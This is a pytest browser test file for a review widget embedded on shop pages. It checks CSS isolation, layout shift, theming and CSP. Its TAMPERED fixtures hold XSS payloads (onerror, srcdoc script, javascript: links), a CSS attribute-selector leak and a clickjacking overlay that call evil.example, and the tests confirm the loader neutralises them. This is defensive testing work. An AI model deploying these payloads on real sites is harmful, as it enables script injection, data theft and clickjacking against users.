"""The widget on shop pages we did not build (another origin, real Chromium).

Isolation both ways (a shop's aggressive CSS does not change the widget; the
widget changes nothing of the shop), a loader that trusts nothing it fetches
(tampered fragment files served by the review site), and zero layout shift
with the loader in the <head> and a bare placeholder.
"""

from __future__ import annotations

import pytest
from browser_harness import FILLED, cls, dump, settle
from review_feed.settings import load_settings
from review_feed.site.slugs import product_slug
from review_feed.site.widgets import STYLESHEET_NAME, WIDGET_HEIGHT, embed_snippets

SETTINGS = load_settings({}, {})
REF = "TEA-GREEN-50"  # five reviews in the demo snapshot
SHOWN = 3  # REVIEW_FEED_WIDGET_COUNT in pelicanconf.py

# The kind of rules shop themes ship: ids, !important, list and box rules,
# inherited text properties. None of them may reach inside the widget.
AGGRESSIVE_CSS = """<style>
 body{font-size:20px;line-height:2.2;letter-spacing:1px;word-spacing:4px;color:#333}
 #main div{padding:30px;border:3px dashed #c00;line-height:3;text-align:center}
 #main section{padding:40px;border:4px solid blue;font-size:30px}
 #main span{font-size:24px!important;letter-spacing:4px!important;padding:6px}
 #main p{font:italic 22px/3 serif;color:#7a1f1f;text-transform:uppercase;margin:2em}
 #main ul,#main ol{list-style:square;padding-left:80px;margin:2em}
 #main li{padding:12px;line-height:2.5;font-size:20px!important;display:list-item}
 #main *{box-sizing:content-box}
 a{color:#0f0!important;text-decoration:none!important;font-weight:900!important}
 h1,h2,h3{font-family:cursive;text-shadow:2px 2px red;text-transform:uppercase}
</style>"""

# Boxes and text styles compared between a plain and an aggressive shop page.
PARTS = {
    "widget": ".rf-w",
    "summary": ".rf-sum",
    "stars": ".rf-big .rf-st",
    "first review": ".rf-list > li",
    "first review text": ".rf-list > li > p",
    "bars": ".rf-dist",
    "first bar": ".rf-dist li",
    "link": ".rf-all",
}
MEASURE = """els => els.length ? (() => { const e = els[0], r = e.getBoundingClientRect(),
  s = getComputedStyle(e); return {w: r.width, h: r.height, color: s.color,
  size: s.fontSize, line: s.lineHeight, spacing: s.letterSpacing, font: s.fontFamily,
  weight: s.fontWeight, transform: s.textTransform}; })() : null"""


def page_with(shop, name: str, body: str, head: str = "", css: str = "") -> str:
    """A shop page; `head` goes into <head>, `css` before the content, in a `#main` box."""
    url = shop.page(name, "Sencha Kagoshima", f'{css}<div id="main">{body}</div>')
    path = shop.root / name
    path.write_text(path.read_text("utf-8").replace("</head>", f"{head}</head>"), "utf-8")
    return url


def loader_tag(shop, extra: str = "async") -> str:
    return f'<script src="{shop.site_url}widgets/review-feed.js" {extra}></script>'.replace(
        " >", ">"
    )


def snippet(shop, ref: str | None = REF) -> str:
    return embed_snippets(SETTINGS, shop.site_url, ref=ref, name="Sencha")["loader"]


def wait_done(page, count: int = 1) -> None:
    page.wait_for_function(
        "n => document.querySelectorAll('[data-review-feed-done]').length >= n"
        " && !document.querySelector('[aria-busy]')",
        arg=count,
    )
    settle(page)


HOSTS = {"loader": "[data-review-feed-product]", "ssi": ".rf-host"}


def measure(page, form: str) -> dict:
    return {
        part: page.locator(f"{HOSTS[form]} {sel}").first.evaluate_all(MEASURE)
        for part, sel in PARTS.items()
    }


def ssi(site, shop, ref: str = REF) -> str:
    """What a server-side include puts in the shop's page: the fragment file as a build
    with SITEURL writes it (it links the stylesheet on the review site)."""
    html = (site.output / "widgets" / "products" / f"{product_slug(ref)}.html").read_text("utf-8")
    css = f'href="../{STYLESHEET_NAME}?'
    assert html.count(css) == 1  # the site's build is relative: made absolute as SITEURL would
    return html.replace(css, f'href="{shop.site_url}{SETTINGS.widget_dir}/{STYLESHEET_NAME}?')


@pytest.mark.parametrize("form", ["loader", "ssi"])
def test_the_shops_css_does_not_reach_into_the_widget(site, shop, open_page, form):
    body = snippet(shop) if form == "loader" else ssi(site, shop)
    plain, w1 = open_page(page_with(shop, f"plain-{form}.html", body))
    plain.wait_for_selector(f"{HOSTS[form]} .rf-list > li")
    rude, w2 = open_page(page_with(shop, f"rude-{form}.html", body, css=AGGRESSIVE_CSS))
    rude.wait_for_selector(f"{HOSTS[form]} .rf-list > li")
    # the probe works: the shop's own elements do take the aggressive rules
    assert rude.locator("h1").evaluate("e => getComputedStyle(e).textTransform") == "uppercase"
    a, b = measure(plain, form), measure(rude, form)
    assert None not in a.values(), dump(a)
    for part in PARTS:
        for dim in ("w", "h"):
            assert abs(a[part][dim] - b[part][dim]) <= 2, (part, dim, dump([a[part], b[part]]))
        for prop in ("color", "size", "line", "spacing", "font", "weight", "transform"):
            assert a[part][prop] == b[part][prop], (part, prop, dump([a[part], b[part]]))
    assert round(b["widget"]["h"]) == WIDGET_HEIGHT
    assert cls(rude) == 0, rude.evaluate("window.__shifts")
    w1.assert_clean()
    w2.assert_clean()


SNAPSHOT = """skip => [document.documentElement, ...document.querySelectorAll('body *')]
  .filter(e => !e.closest(skip) && e.tagName !== 'SCRIPT' && e.tagName !== 'STYLE')
  .map((e, i) => { const s = getComputedStyle(e), o = {};
    for (const p of s) o[p] = s.getPropertyValue(p);
    return [i + ':' + e.tagName + '.' + e.className, o]; })"""


@pytest.mark.parametrize("css", ["", AGGRESSIVE_CSS], ids=["plain", "aggressive"])
def test_inserting_the_widget_changes_no_style_of_the_shop(shop, open_page, css):
    page, watch = open_page(page_with(shop, f"untouched-{bool(css)}.html", snippet(shop), css=css))
    skip = "[data-review-feed-product]"  # the placeholder is the widget's box, given to it
    before = dict(page.evaluate(SNAPSHOT, skip))
    assert len(before) > 10
    page.add_script_tag(url=f"{shop.site_url}widgets/review-feed.js")
    page.wait_for_selector("[data-review-feed-product] .rf-list > li")
    settle(page)
    after = dict(page.evaluate(SNAPSHOT, skip))
    assert after.keys() == before.keys()
    changed = {
        el: {p: (v, after[el][p]) for p, v in props.items() if after[el][p] != v}
        for el, props in before.items()
    }
    assert {el: d for el, d in changed.items() if d} == {}
    watch.assert_clean()


# Fragment files replaced on the static host or CDN: each would run script,
# restyle the shop or cover it if inserted as it is.
TAMPERED = {
    "img-onerror": '<img class="rf-w" src="x:" onerror="window.__pwned=1;alert(1)">',
    "iframe-srcdoc": (
        '<iframe class="rf-w" srcdoc="<script>parent.__pwned=2;parent.alert(2)</script>"></iframe>'
    ),
    "details-ontoggle": (
        '<details class="rf-w" open ontoggle="window.__pwned=3;alert(3)"><p>x</p></details>'
    ),
    "style-element": (
        '<section class="rf-w"><style>body{background:#f00!important;font-size:40px!important}'
        "h1{display:none!important}:host{position:fixed;inset:0}"
        "input[value^=a]{background-image:url(https://evil.example/leak-a)}"
        "</style><p>reviews</p></section>"
    ),
    "fixed-link": (
        '<section class="rf-w"><a href="https://evil.example/" ping="https://evil.example/p"'
        ' target="_top" style="position:fixed;inset:0;z-index:2147483647;display:block;'
        'background:rgba(255,0,0,.2)">win a prize</a></section>'
    ),
    "nested": (
        '<section class="rf-w" onmouseover="window.__pwned=4"><div><p>ok</p>'
        '<img src="x:" onerror="window.__pwned=5"><svg><script>window.__pwned=6</script></svg>'
        '<a href="javascript:window.__pwned=7">js</a><form action="https://evil.example/">'
        '<input autofocus onfocus="window.__pwned=8"></form><object data="x:"></object>'
        '<math><mi xlink:href="javascript:window.__pwned=9">m</mi></math></div></section>'
    ),
}
SHOP_LOOK = """() => { const b = getComputedStyle(document.body), h = document.querySelector('h1');
  return {bg: b.backgroundColor, size: b.fontSize, color: b.color, font: b.fontFamily,
  h1: getComputedStyle(h).display, h1size: getComputedStyle(h).fontSize}; }"""
HIT_LINK = """() => { const a = document.querySelector('#shop-link'), r = a.getBoundingClientRect();
  const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2);
  return hit === a || a.contains(hit); }"""


@pytest.mark.parametrize("name", list(TAMPERED))
def test_a_tampered_fragment_cannot_run_restyle_or_cover_the_shop(site, shop, open_page, name):
    ref = f"TAMPERED-{name}"
    out = site.output / "widgets" / "products" / f"{product_slug(ref)}.html"
    out.write_text(TAMPERED[name], encoding="utf-8")
    # the shop's own link, and a token an attribute selector could leak letter by letter
    link = '<p><a id="shop-link" href="#buy">Add to cart</a> <input name="t" value="abc"></p>'
    body = link + snippet(shop, ref)
    clean_url = page_with(shop, f"clean-{name}.html", link)
    baseline, _ = open_page(clean_url)
    look = baseline.evaluate(SHOP_LOOK)
    page, watch = open_page(page_with(shop, f"tampered-{name}.html", body))
    wait_done(page)
    page.mouse.move(300, 400)
    page.keyboard.press("Tab")
    settle(page)
    assert watch.dialogs == []
    assert page.evaluate("window.__pwned") is None
    assert watch.blocked == [], "the fragment made the page request another host"
    assert page.evaluate(SHOP_LOOK) == look
    assert page.evaluate(HIT_LINK), "something covers the shop's own link"
    host = page.locator("[data-review-feed-product]")
    inside = host.evaluate(
        "h => h.shadowRoot ? [...h.shadowRoot.querySelectorAll('*')].map(e => e.outerHTML) : []"
    )
    for html in inside:  # what was kept is inert
        for bad in ("<style", "<img", "<iframe", "<svg", "<script", " on", "ping=", "javascript:"):
            assert bad not in html.lower(), html
        assert "target=" not in html or 'target="_blank"' in html
        assert "style=" not in html or "width:" in html
    assert watch.page_errors == []


def test_links_keep_only_http_and_blank_targets_with_noopener(site, shop, open_page):
    ref = "TAMPERED-links"
    out = site.output / "widgets" / "products" / f"{product_slug(ref)}.html"
    out.write_text(
        '<section class="rf-w"><a class="a" href="/x" target="_blank" ping="/p">a</a>'
        '<a class="b" href="data:text/html,x" target="_self">b</a>'
        '<a class="c" href="https://example.com/" target="evil">c</a></section>',
        encoding="utf-8",
    )
    page, watch = open_page(page_with(shop, "links.html", snippet(shop, ref)))
    page.wait_for_selector("[data-review-feed-product] .rf-w a.c")
    attrs = page.locator("[data-review-feed-product] .rf-w a").evaluate_all(
        "els => els.map(e => [...e.attributes].map(a => a.name + '=' + a.value).sort())"
    )
    assert attrs == [
        ["class=a", f"href={shop.site_url}x", "rel=noopener", "target=_blank"],
        ["class=b"],
        ["class=c", "href=https://example.com/"],
    ], dump(attrs)
    watch.assert_clean()


# --- no layout shift ----------------------------------------------------------------


def reviews_shown(page) -> int:
    page.wait_for_selector("[data-review-feed-product] .rf-list > li")
    return page.locator("[data-review-feed-product] .rf-list > li").count()


@pytest.mark.parametrize("css", ["", AGGRESSIVE_CSS], ids=["plain", "aggressive"])
def test_loader_in_the_head_reserves_a_bare_placeholder(shop, open_page, css):
    body = f'<div data-review-feed-product="{REF}"></div>'
    url = page_with(shop, f"head-{bool(css)}.html", body, head=loader_tag(shop, ""), css=css)
    page, watch = open_page(url)
    assert reviews_shown(page) == SHOWN
    assert cls(page) == 0, page.evaluate("window.__shifts")
    box = page.locator("[data-review-feed-product]").bounding_box()
    assert round(box["height"]) == WIDGET_HEIGHT
    watch.assert_clean()


@pytest.mark.parametrize("css", ["", AGGRESSIVE_CSS], ids=["plain", "aggressive"])
def test_documented_snippet_has_no_layout_shift(shop, open_page, css):
    page, watch = open_page(page_with(shop, f"snippet-{bool(css)}.html", snippet(shop), css=css))
    assert reviews_shown(page) == SHOWN
    assert cls(page) == 0, page.evaluate("window.__shifts")
    watch.assert_clean()


def test_ssi_shows_its_reviews_without_script_and_keeps_a_plain_fallback(site, shop, open_page):
    """Declarative shadow DOM is parsed, not run: the reviews show with JavaScript off.
    Browsers without it render the light-DOM fallback; crawlers read both in the HTML."""
    import lxml.html

    html = ssi(site, shop)
    page, watch = open_page(page_with(shop, "ssi-nojs.html", html, css=AGGRESSIVE_CSS), js=False)
    assert page.locator(".rf-host .rf-list > li").count() == SHOWN
    assert page.locator(".rf-host").evaluate("h => h.shadowRoot !== null")
    fallback = page.locator(".rf-host > p > a")
    assert fallback.count() == 1 and not fallback.is_visible()  # shadow content is shown instead
    assert round(page.locator(".rf-host").bounding_box()["height"]) == WIDGET_HEIGHT
    watch.assert_clean()
    # what an HTML-reading crawler gets: the template's text (every review shown) + the fallback
    tree = lxml.html.fromstring(html)
    text = tree.text_content()
    assert text.count("out of 5") >= 2 and "See all" in text
    link = tree.xpath("//div[@class='rf-host']/p/a/@href")
    assert link and product_slug(REF) in link[0]


def test_a_failed_placeholder_gives_its_space_back(shop, open_page):
    body = '<div data-review-feed-product="NO-SUCH-PRODUCT"><a href="/x">Reviews</a></div>'
    url = page_with(shop, "failed.html", body, head=loader_tag(shop, ""))
    page, _ = open_page(url)
    wait_done(page)
    host = page.locator("[data-review-feed-product]")
    assert host.get_attribute("data-review-feed-failed") == ""
    assert host.bounding_box()["height"] < 100 and host.locator("a").is_visible()


def test_the_cls_probe_sees_a_shift(shop, open_page):
    """Control: content inserted above the fold without reserved space is a shift."""
    page, _ = open_page(page_with(shop, "shift.html", '<div id="late"></div>'))
    settle(page)
    page.evaluate("document.getElementById('late').style.height = '440px'")
    assert cls(page) > 0


# --- theming and CSP ----------------------------------------------------------------

THEME = "<style>.shop-reviews{--rf-accent:#0b5d50;--rf-ink:#102030;--rf-height:520px}</style>"


@pytest.mark.parametrize("form", ["loader", "ssi"])
def test_custom_properties_theme_the_widget_through_the_shadow_boundary(
    site, shop, open_page, form
):
    widget = snippet(shop) if form == "loader" else ssi(site, shop)
    body = f'<div class="shop-reviews">{widget}</div>'
    page, watch = open_page(page_with(shop, f"theme-{form}.html", THEME + body))
    host = HOSTS[form]
    page.wait_for_selector(f"{host} .rf-list > li")
    color = "e => getComputedStyle(e).color"
    assert page.locator(f"{host} .rf-all").evaluate(color) == "rgb(11, 93, 80)"
    assert page.locator(f"{host} .rf-w").evaluate(color) == "rgb(16, 32, 48)"
    assert round(page.locator(f"{host} .rf-w").bounding_box()["height"]) == 520
    watch.assert_clean()


def test_loader_works_under_a_strict_style_policy(shop, open_page):
    """No inline style is needed: the stylesheet is adopted, widths are set through the CSSOM."""
    csp = (
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        f"script-src {shop.site_url}; connect-src {shop.site_url}; style-src 'none'\">"
    )
    body = f'<div data-review-feed-product="{REF}"></div>'
    page, watch = open_page(page_with(shop, "csp.html", body, head=csp + loader_tag(shop, "")))
    assert reviews_shown(page) == SHOWN
    widget = page.locator("[data-review-feed-product] .rf-w")
    assert round(widget.bounding_box()["height"]) == WIDGET_HEIGHT
    filled = page.locator("[data-review-feed-product] .rf-big .rf-st").evaluate(FILLED)
    assert 0 < filled < page.locator(".rf-big .rf-st").bounding_box()["width"]
    assert not [e for e in watch.console_errors if "review-feed" in e or "Refused to apply" in e]


def test_a_hidden_host_stays_hidden(shop, open_page):
    body = f'<div data-review-feed-product="{REF}" hidden></div>'
    page, watch = open_page(page_with(shop, "hidden.html", body, head=loader_tag(shop, "")))
    wait_done(page)
    assert page.locator("[data-review-feed-product] .rf-w").count() == 1
    assert page.locator("[data-review-feed-product]").bounding_box() is None
    watch.assert_clean()
